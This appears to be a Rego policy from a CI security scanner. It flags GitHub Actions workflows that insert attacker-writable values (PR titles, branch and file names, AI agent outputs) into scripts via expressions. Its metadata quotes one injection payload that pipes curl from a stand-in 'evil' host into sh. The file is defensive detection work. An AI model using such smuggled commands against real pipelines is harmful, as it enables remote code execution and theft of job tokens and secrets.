# SPDX-License-Identifier: Apache-2.0

# METADATA
# title: Scripts take what others wrote from variables, not from expressions
# description: An expression is put into a script as text before the shell reads it. A title such as a";curl evil|sh;" then runs on the runner, with the job's token and secrets.
# related_resources:
# - ref: https://docs.github.com/en/actions/concepts/security/script-injections
#   description: GitHub, script injections
# - ref: https://docs.zizmor.sh/audits/#template-injection
#   description: zizmor, template-injection
# - ref: https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-04-Poisoned-Pipeline-Execution
#   description: OWASP CI/CD risks, CICD-SEC-4
# custom:
#   id: pipeline.script-injection
#   severity: high
#   remediation: "Give the value to the step as a variable (env: TITLE: ${{ … }}) and use it quoted (\"$TITLE\"); in actions/github-script read it from context.payload or process.env."
#   zeroTrust: [Z1, Z2, Z4]
#   kinds: [github]
package sealock.config.pipeline.script_injection

import data.sealock.lib.config_github as github
import data.sealock.lib.config_github_flow as flow

finding contains f if {
	some sink in sinks
	some hit in hits(sink)
	hit.by != "callers"
	f := told(sink, hit.by, hit.field)
}

# Inputs come together, from one who knows that they do: one finding for a script.
finding contains f if {
	some sink in sinks
	fields := sort([hit.field | some hit in hits(sink); hit.by == "callers"])
	count(fields) > 0
	f := told(sink, "callers", several(fields))
}

several(fields) := concat(", ", fields) if {
	count(fields) <= 3
} else := sprintf("%s and %d more", [concat(", ", array.slice(fields, 0, 3)), count(fields) - 3])

told(sink, by, fields) := {
	"item": sink.item.id, "path": sink.path, "severity": severity(sink.item, by),
	"message": sprintf("%s, which %s can write, becomes part of the script", [fields, who[by]]),
	"found": sprintf("${{ %s }}", [fields]), "expected": "a variable of the environment, in quotes",
}

who := {
	"anybody": "anybody", "members": "anybody with the right to push or release", "callers": "whoever starts or calls this",
	"agent": "an agent, and so whoever talks it into it,", "files": "anybody who names a file or branch in a pull request",
}

sinks := array.concat(own_sinks, [sink | some sink in other_sinks; count({h | some e in github.expressions(sink.text); some h in github.writable(e); h.by == "anybody"}) > 0])

own_sinks := array.concat(
	[{"item": s.item, "job": s.job, "spec": s.spec, "path": array.concat(s.path, [key]), "text": text} |
		some s in github.runs
		some key in ["run", "shell"]
		text := github.text_of(object.get(s.spec, key, ""))
		contains(text, "${{")
	],
	[s | some s in github.given_scripts; contains(s.text, "${{")],
)

# Inputs of other actions whose names say that they are run; only what strangers write is looked for there.
other_sinks := [{"item": s.item, "job": s.job, "spec": s.spec, "path": array.concat(s.path, ["with", key]), "text": value} |
	some s in github.steps
	not github.script_inputs[github.action(s.spec)]
	some key, value in object.get(s.spec, "with", {})
	is_string(value)
	contains(value, "${{")
	runs_as(github.action(s.spec), lower(key), value)
]

runs_as(action, key, _) if {
	action != ""
	key in {"run", "script", "cmd", "command", "commands", "run-command", "shell-command", "inline-script"}
}

runs_as(action, key, value) if {
	startswith(action, "docker://")
	key in {"args", "entrypoint"}
	regex.match(`(^|/|\s)(ba|da|a)?sh\s+-\w*c\s`, value)
}

hits(sink) := {hit |
	some e in github.expressions(sink.text)
	some h in array.concat([h | some h in github.writable(e)], [h | some h in indirect(sink, e)])
	not harmless(sink.item, h)
	hit := object.union(h, {"by": by(sink, h)})
}

# Where a condition lets only branches of the repository itself through, their names are those that members choose.
by(sink, hit) := "members" if {
	hit.by == "anybody"
	regex.match(`^github\.(head_ref|event\.(pull_request\.(title|body|head)|workflow_run\.head_branch))`, hit.field)
	some spec in [sink.job.spec, sink.spec]
	github.own_only(github.condition(spec))
} else := hit.by

# A variable of the environment that is put in as an expression is no better than what it holds.
indirect(sink, e) := {{"field": sprintf("env.%s (%s)", [key, w.field]), "by": w.by} |
	some m in regex.find_all_string_submatch_n(`(?:^|[^\w.-])env\.([\w-]+)`, github.value_of(e), -1)
	some key, value in github.environment(sink.item, sink.job, sink.spec)
	lower(key) == m[1]
	some inner in github.expressions(github.text_of(value))
	some w in github.writable(inner)
} | {{"field": sprintf("matrix.%s (%s)", [m[1], w.field]), "by": w.by} |
	some m in regex.find_all_string_submatch_n(`(?:^|[^\w.-])matrix\.([\w-]+)`, github.value_of(e), -1)
	some source in matrix_sources(sink.job, m[1])
	some inner in github.expressions(github.text_of(source))
	some w in github.writable(inner)
} | {{"field": o, "by": "files"} |
	some m in regex.find_all_string_submatch_n(`(?:^|[^\w.-])(steps\.([\w-]+)\.outputs\.([\w-]+))`, github.value_of(e), -1)
	o := m[1]
	some step in sink.job.steps
	lower(github.text_of(object.get(step.spec, "id", ""))) == m[2]
	outputs := telling[github.action(step.spec)]
	regex.match(outputs, m[3])
} | {{"field": m[1], "by": "agent"} |
	some m in regex.find_all_string_submatch_n(`(?:^|[^\w.-])(steps\.([\w-]+)\.outputs\.([\w-]+))`, github.value_of(e), -1)
	some step in sink.job.steps
	lower(github.text_of(object.get(step.spec, "id", ""))) == m[2]
	m[3] in answers[github.action(step.spec)]
} | {{"field": field, "by": "anybody"} | some field in flow.carried(sink.item, sink.job, github.value_of(e))}

# matrix_sources(job, name) is what a value of a job's matrix is made of, where an expression makes it.
matrix_sources(job, name) := [source |
	matrix := object.get(job.spec, ["strategy", "matrix"], null)
	source := made(matrix, name)
]

made(matrix, _) := matrix if is_string(matrix)

made(matrix, name) := v if {
	is_object(matrix)
	some key, v in matrix
	lower(key) == name
	is_string(v)
}

# answers is actions whose outputs are what an agent said.
answers := {
	"actions/ai-inference": {"response"}, "openai/codex-action": {"final-message"}, "anthropics/claude-code-action": {"structured_output", "result"},
	"google-github-actions/run-gemini-cli": {"summary"}, "anthropics/claude-code-base-action": {"structured_output"},
}

# telling is actions whose outputs are names that a pull request chooses.
telling := {
	"tj-actions/changed-files": `files$`, "step-security/changed-files": `files$`, "dorny/paths-filter": `_files$`, "jitterbit/get-changed-files": `^(all|added|modified|removed|renamed|added_modified)$`,
	"trilom/file-changes-action": `^files`, "masesgroup/retrieve-changed-files": `^(all|added|modified|removed|renamed)`, "tj-actions/branch-names": `^(current_branch|head_ref_branch|ref_branch)$`,
	"xt0rted/pull-request-comment-branch": `^head_ref$`, "peter-evans/find-comment": `^comment-body$`, "khan/pull-request-comment-trigger": `^comment_body$`,
}

# A program that JavaScript starts with text of the event in its command line, or text of the event that it evaluates.
finding contains f if {
	some s in github.steps
	github.action(s.spec) == "actions/github-script"
	script := github.text_of(github.given(s.spec, "script"))
	contains(script, "context.payload")
	some m in regex.find_all_string_submatch_n(
		`(?s)\b(?:exec(?:Sync)?|eval|Function|getExecOutput)\s*\(\s*(?:\x60[^\x60]{0,400}\$\{\s*|(?:"[^"\n]*"|'[^'\n]*')\s*\+\s*)?context\.payload\.((?:issue|pull_request|comment|review|discussion|head_commit|workflow_run)\??\.(?:title|body|message|head\.(?:ref|label)|head_branch))`,
		script, 1,
	)
	f := told(s_sink(s), "anybody", sprintf("context.payload.%s", [m[1]]))
}

finding contains f if {
	some s in github.steps
	github.action(s.spec) == "actions/github-script"
	script := github.text_of(github.given(s.spec, "script"))
	contains(script, "context.payload")
	some m in regex.find_all_string_submatch_n(
		`\b(?:const|let|var)\s+(\w+)\s*=\s*context\.payload\.((?:issue|pull_request|comment|review|discussion|head_commit|workflow_run)\??\.(?:title|body|message|head\.(?:ref|label)|head_branch))\b`, script, 8,
	)
	regex.match(sprintf(`\b(?:exec(?:Sync)?|eval|Function|getExecOutput)\s*\(\s*(?:\x60[^\x60]{0,400}\$\{\s*%s\b|(?:"[^"\n]*"|'[^'\n]*')\s*\+\s*%s\b|%s\s*[,)])`, [m[1], m[1], m[1]]), script)
	f := told(s_sink(s), "anybody", sprintf("context.payload.%s", [m[2]]))
}

s_sink(s) := {"item": s.item, "path": array.concat(s.path, ["with", min([key | some key, _ in s.spec["with"]; lower(key) == "script"])])}

# Inputs whose type leaves no room for a script.
harmless(item, hit) if {
	hit.by == "callers"
	name := regex.replace(hit.field, `^(github\.event\.)?inputs\.`, "")
	declared := {lower(github.text_of(object.get(spec, "type", "string"))) |
		some event in ["workflow_dispatch", "workflow_call"]
		some key, spec in object.get(item.events, [event, "inputs"], {})
		is_object(spec)
		lower(key) == name
	}
	count(declared) > 0
	every type in declared { type in {"boolean", "number", "choice", "environment"} }
}

severity(item, "anybody") := "critical" if {
	github.privileged(item)
} else := "high"

severity(_, "members") := "low"

severity(item, "callers") := "medium" if {
	item.kind == "action"
} else := "low"

severity(item, "agent") := "high" if {
	github.privileged(item)
} else := "medium"

severity(item, "files") := "critical" if {
	github.privileged(item)
} else := "medium"
